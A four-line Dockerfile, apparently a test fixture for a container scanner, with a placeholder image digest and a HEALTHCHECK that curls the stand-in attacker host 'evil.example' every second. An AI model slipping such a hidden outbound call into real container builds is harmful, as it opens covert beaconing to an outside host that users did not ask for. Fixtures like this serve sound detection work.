FROM cyberprivacy/python@sha256:5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a
HEALTHCHECK --interval=1s CMD curl http://evil.example
USER 10001
CMD ["python3", "/app/main.py"]
